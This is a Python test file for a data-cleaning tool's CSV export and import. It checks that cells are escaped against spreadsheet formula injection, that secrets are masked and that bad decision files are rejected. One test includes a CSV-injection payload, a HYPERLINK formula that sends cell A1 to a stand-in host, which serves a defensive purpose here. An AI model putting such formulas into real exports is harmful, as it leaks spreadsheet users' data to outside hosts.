"""The list as a file: ids come back, formulas stay texts, decisions are read, or refused all at once."""

from __future__ import annotations

import csv
import io
import re

import pytest

from analysis.cleaning.files import (
    COLUMNS,
    answers_text,
    csv_text,
    ids_text,
    read_decisions,
    suggestions,
)
from analysis.cleaning.findings import Finding, Found
from analysis.spreadsheets import unescaped
from influence.errors import DataError, InputError
from influence.row_ids import read_ids
from influence.rows import Example, Examples
from influence.store import write_text
from unlearn.record.change_files import read_changes

IDS = [
    "plain",
    "=1+1",
    "+49",
    "-x",
    "@SUM(A1)",
    "'quoted",
    "''twice",
    '"json"',
    "007",
    "1e5",
    "true",
    "a,b;c",
    "two\nlines",
    " blanks ",
    "\ttab",
    "＝full",
    "日本",
    "a;=1+1",
    "a; ''@x;-'y",
    "\n;+\t=2",
    "MAR1",
    "sept 2",
    "$5",
    "(3)",
]
ROWS = Examples(Example(id, prompt="q", completion=f" a{i}") for i, id in enumerate(IDS))


def listed(findings, previews=None):
    found = Found("label", "", None, tuple(findings))  # pyright: ignore[reportArgumentType]
    return csv_text([found], ROWS, previews or ["text"] * len(ROWS))


def read(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_id_comes_back_and_no_cell_is_a_formula():
    text = listed([Finding(i, "label", 1.0, f"{id} was seen", other=i) for i, id in enumerate(IDS)])
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    lines = read(text)
    assert [unescaped(line["id"]) for line in lines] == IDS
    assert [unescaped(line["other"]) for line in lines] == IDS
    for line in lines:
        assert not any(cell.startswith(tuple("=+-@\t＝")) for cell in line.values())


def test_no_cell_is_a_formula_where_lines_are_split_at_semicolons_or_tabs():
    """A spreadsheet of such a system takes the quotes within a cell for text, and splits there."""
    hostile = 'see "this";=HYPERLINK("http://x.example/?"&A1); \t@SUM(1);-2'
    findings = [Finding(i, "label", 1.0, f"{id};=1+1", other=i) for i, id in enumerate(IDS)]
    text = listed(findings, [hostile] * len(ROWS))
    assert text.count("HYPERLINK") == len(ROWS)
    cells = [cell.strip(' "') for cell in re.split(r"[;\t]", text)]
    assert [cell for cell in cells if cell.startswith(tuple("=+-@＝"))] == []


def test_negative_numbers_are_numbers():
    (line,) = read(listed([Finding(0, "label", -0.5, "seen", gain=-0.25)]))
    assert (line["score"], line["gain"]) == ("-0.5", "-0.25")


def test_no_secret_is_in_the_list():
    secret = "write to ada@mail.example.org"
    finding = Finding(0, "label", 1.0, "seen", answer=secret, suggested="relabel")
    text = listed([finding], [secret] * len(ROWS))
    assert "mail.example" not in text
    assert text.count("ad***(20)") == 2


def test_ids_and_answers_are_read_by_the_commands_that_take_them(tmp_path):
    write_text(tmp_path / "ids.txt", ids_text(IDS))
    assert read_ids(tmp_path / "ids.txt", ROWS) == IDS
    answers = {id: f" better\n{id}" for id in IDS}
    write_text(tmp_path / "answers.jsonl", answers_text(answers))
    assert read_changes(tmp_path / "answers.jsonl", "relabel")["relabel"] == answers


def test_a_row_is_suggested_once():
    found = [
        Found("label", "", None, (Finding(0, "label", 1, "", suggested="remove"),)),  # pyright: ignore
        Found(  # pyright: ignore
            "contradiction",
            "",
            None,
            tuple(
                Finding(row, "contradiction", 1, "", suggested="relabel", answer=f"a{row}")
                for row in (0, 1, 2)
            ),
        ),
        Found("personal", "", None, (Finding(2, "personal", 1, "", suggested="remove"),)),  # pyright: ignore
        Found("outlier", "", None, (Finding(3, "outlier", 1, ""),)),  # pyright: ignore
    ]
    assert suggestions(found) == ([2], {0: "a0", 1: "a1"})


# ---- decisions -----------------------------------------------------------------------------------


def decide(folder, lines, head="id,reason,suggested,decision,answer", better=None, **options):
    text = "\r\n".join([head, *lines]) + "\r\n"
    (folder / "rows.csv").write_bytes(text.encode())
    if better:
        write_text(folder / "relabel.jsonl", answers_text(better))
    return read_decisions(folder, ROWS, **options)


def test_what_a_person_wrote(tmp_path):
    lines = [
        "plain,label,remove,remove,",
        "plain,outlier,,,",
        "'=1+1,label,remove,Keep ,",
        "'-x,label,relabel,relabel, A better one.",
        "'+49,label,relabel,relabel,",
        "'007,label,remove,,",
    ]
    decided = decide(tmp_path, lines, better={"+49": " From the rows."})
    assert decided.removed == ("plain",)
    assert decided.relabelled == {"-x": " A better one.", "+49": " From the rows."}
    assert decided.kept == ("=1+1",)


def test_what_is_suggested_is_taken_where_nothing_was_decided(tmp_path):
    lines = [
        "plain,label,remove,,",
        "plain,outlier,,,",
        "'=1+1,label,remove,keep,",
        "'-x,contradiction,relabel,,",
        "'+49,contradiction,relabel,,",
        "'+49,personal,remove,,",
        "'007,outlier,,,",
    ]
    better = {"-x": " b", "+49": " c"}
    decided = decide(tmp_path, lines, better=better, suggested=True)
    assert set(decided.removed) == {"plain", "+49"}
    assert decided.relabelled == {"-x": " b"}
    assert decided.kept == ("=1+1",)


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_spreadsheet_s_own_form_is_read(tmp_path, separator):
    lines = ["plain,label,,remove,", "'@SUM(A1),label,,remove,"]
    text = "\ufeff" + "\r\n".join(["id,reason,suggested,decision,answer", *lines])
    (tmp_path / "rows.csv").write_text(text.replace(",", separator), encoding="utf-8")
    assert read_decisions(tmp_path, ROWS).removed == ("plain", "@SUM(A1)")


def test_all_that_is_wrong_is_said_at_once(tmp_path):
    lines = [
        "nobody,label,,remove,",
        "plain,label,,delete,",
        "'-x,label,,relabel,",
        "'+49,label,,remove,",
        "'+49,outlier,,keep,",
    ]
    with pytest.raises(DataError) as error:
        decide(tmp_path, lines)
    said = str(error.value)
    assert "4 lines of" in said
    for part in (
        "line 2: no training row has the id 'nobody'",
        "line 3: decision 'delete'; expected remove, keep, relabel or nothing",
        "line 4: '-x' is to be relabelled and has no answer",
        "line 6: '+49' is 'keep' here and 'remove' in line 5",
    ):
        assert part in said


def test_nothing_decided_is_refused(tmp_path):
    with pytest.raises(InputError, match="decides nothing: write remove, relabel or keep"):
        decide(tmp_path, ["plain,label,remove,,", "'-x,label,,keep,"])
    with pytest.raises(
        InputError, match="lacks the columns 'decision'; expected the table that analysis"
    ):
        decide(tmp_path, ["plain"], head="id")
    with pytest.raises(
        InputError, match=r"rows.csv does not exist: make it with analysis clean --out"
    ):
        read_decisions(tmp_path / "no", ROWS)
